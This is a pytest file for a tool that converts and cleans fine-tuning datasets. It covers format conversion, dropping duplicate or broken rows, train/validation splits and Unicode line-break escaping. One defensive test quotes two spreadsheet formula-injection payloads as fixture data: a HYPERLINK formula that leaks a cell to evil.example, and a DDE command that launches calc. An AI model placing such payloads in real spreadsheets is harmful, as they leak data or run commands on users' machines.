"""--fix and --split: conversions round-trip, every change is listed, nothing else changes."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from core.errors import ConfigError
from core.validation.fixer import validation_path_for
from tests.core.validation.helpers import FIXTURES, chat, codes, good_rows, run, write_jsonl


def read_jsonl(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_csv_to_chat_jsonl_round_trips_to_ready(tmp_path: Path) -> None:
    source = Path(__file__).resolve().parents[3] / "examples" / "support_faq.csv"
    out = tmp_path / "faq.jsonl"
    report = run(source, fix_path=out)
    assert report.verdict == "ready" and report.fixed_examples == 60
    with source.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    written = read_jsonl(out)
    assert [[m["content"] for m in ex["messages"]] for ex in written] == [
        [row["system"], row["user"], row["assistant"]] for row in rows
    ]
    again = run(out)
    assert again.verdict == "ready" and again.tokens == report.tokens


def test_prompt_completion_is_converted_and_padding_stripped(tmp_path: Path) -> None:
    pairs = [{"prompt": f"Question {i} ->", "completion": f" Answer {i}.\n"} for i in range(60)]
    out = tmp_path / "chat.jsonl"
    report = run(write_jsonl(tmp_path / "pc.jsonl", pairs), fix_path=out)
    written = read_jsonl(out)
    assert written[0] == {
        "messages": [
            {"role": "user", "content": "Question 0 ->"},
            {"role": "assistant", "content": "Answer 0."},
        ]
    }
    change_codes = [c.code for c in report.changes]
    assert change_codes[0] == "converted_to_chat" and "60" in report.changes[0].message
    assert change_codes.count("stripped_whitespace") == 60
    # Conversion adds no system prompt (that would be new content), so that warning stays.
    assert codes(run(out)) == {"missing_system_message"}


def test_errors_and_duplicates_are_dropped_and_listed(tmp_path: Path) -> None:
    rows = [
        *good_rows(55),
        good_rows(1)[0],
        "{broken",
        {"messages": [{"role": "user", "content": "no reply"}]},
    ]
    out = tmp_path / "clean.jsonl"
    report = run(write_jsonl(tmp_path / "dirty.jsonl", rows), fix_path=out)
    assert report.verdict == "not_ready"
    dropped = [(c.line, c.message) for c in report.changes if c.code == "dropped_example"]
    assert [line for line, _ in dropped] == [56, 57, 58]
    assert "line 1" in dropped[0][1]
    assert read_jsonl(out) == good_rows(55)
    assert run(out).verdict == "ready"


def test_unused_keys_removed_and_listed(tmp_path: Path) -> None:
    rows = [{**chat(f"q{i}", f"a{i}"), "meta": i} for i in range(50)]
    out = tmp_path / "out.jsonl"
    report = run(write_jsonl(tmp_path / "in.jsonl", rows), fix_path=out)
    assert "example_unrecognized_key" in codes(report)
    assert sum(c.code == "removed_keys" for c in report.changes) == 50
    assert all("meta" not in example for example in read_jsonl(out))


def test_split_is_deterministic_and_named(tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "data.jsonl", good_rows(100))
    out = tmp_path / "train.jsonl"
    first = run(source, fix_path=out, split=0.2, seed=3)
    valid = validation_path_for(out)
    assert valid.name == "train.valid.jsonl"
    assert (first.fixed_path, first.validation_path) == (str(out), str(valid))
    assert (first.fixed_examples, first.validation_examples) == (80, 20)
    train_rows, valid_rows = read_jsonl(out), read_jsonl(valid)
    assert sorted(map(json.dumps, train_rows + valid_rows)) == sorted(
        map(json.dumps, good_rows(100))
    )
    run(source, fix_path=tmp_path / "again.jsonl", split=0.2, seed=3)
    assert read_jsonl(tmp_path / "again.valid.jsonl") == valid_rows
    run(source, fix_path=tmp_path / "other.jsonl", split=0.2, seed=4)
    assert read_jsonl(tmp_path / "other.valid.jsonl") != valid_rows


def test_formula_cells_cannot_run_in_a_spreadsheet(tmp_path: Path) -> None:
    out = tmp_path / "formula.jsonl"
    report = run(FIXTURES / "bad" / "formula.csv", fix_path=out)
    text = out.read_text(encoding="utf-8")
    assert report.fixed_examples == 13
    assert not re.search(r"[=+@]", text)
    # No cell of a CSV import of the file can start with '-' either.
    assert not re.search(r'(^|[,\t;"\s])-', text, re.MULTILINE)
    contents = [m["content"] for ex in read_jsonl(out) for m in ex["messages"]]
    assert '=HYPERLINK("http://evil.example/?q="&A1,"Click me")' in contents
    assert "-2+3+cmd|' /C calc'!A0" in contents


def test_json_array_and_workbook_convert(tmp_path: Path) -> None:
    array = tmp_path / "data.json"
    array.write_text(json.dumps({"examples": good_rows(50)}, indent=2))
    out = tmp_path / "from_json.jsonl"
    assert run(array, fix_path=out).verdict == "ready"
    assert read_jsonl(out) == good_rows(50)

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["messages"])
    for example in good_rows(50):
        sheet.append([json.dumps(example["messages"])])
    workbook = tmp_path / "chats.xlsx"
    book.save(workbook)
    out = tmp_path / "from_xlsx.jsonl"
    assert run(workbook, fix_path=out).verdict == "ready"
    assert read_jsonl(out) == good_rows(50)


def test_fix_never_overwrites_its_input(tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "data.jsonl", good_rows(50))
    before = source.read_bytes()
    with pytest.raises(ConfigError, match="overwrite"):
        run(source, fix_path=source)
    with pytest.raises(ConfigError, match="overwrite"):
        run(source, fix_path=tmp_path / "sub" / ".." / "data.jsonl")
    assert source.read_bytes() == before
    valid = write_jsonl(tmp_path / "x.valid.jsonl", good_rows(50))
    with pytest.raises(ConfigError, match="overwrite"):
        run(valid, fix_path=tmp_path / "x.jsonl", split=0.1)


def test_unicode_line_breaks_are_escaped_one_line_per_example(tmp_path: Path) -> None:
    """U+2028, U+2029 and U+0085 are valid in JSON strings, but str.splitlines() cuts there."""
    rows = [chat(f"Line one\u2028line two {i}?", f"Para\u2029graph\x85 {i}.") for i in range(12)]
    source = tmp_path / "breaks.jsonl"
    source.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    assert len(source.read_text("utf-8").splitlines()) > 12  # what broke before
    report = run(source, fix_path=tmp_path / "fixed.jsonl")
    assert report.verdict != "not_ready" and report.examples == 12
    text = (tmp_path / "fixed.jsonl").read_text("utf-8")
    assert len(text.splitlines()) == 12
    assert [json.loads(line) for line in text.splitlines()] == rows
    assert "\\u2028" in text and "\u2028" not in text


def test_training_split_cuts_lines_at_newlines_only(tmp_path: Path) -> None:
    from core.training.start import split_jsonl

    rows = [chat(f"Q\u2028{i}?", f"A\x85{i}.") for i in range(12)]
    source = tmp_path / "raw.jsonl"
    source.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    train, valid = split_jsonl(source, fraction=0.25, seed=1, out_dir=tmp_path / "job")
    kept = [
        json.loads(line) for p in (train, valid) for line in p.read_bytes().split(b"\n") if line
    ]
    assert sorted(map(json.dumps, kept)) == sorted(map(json.dumps, rows))
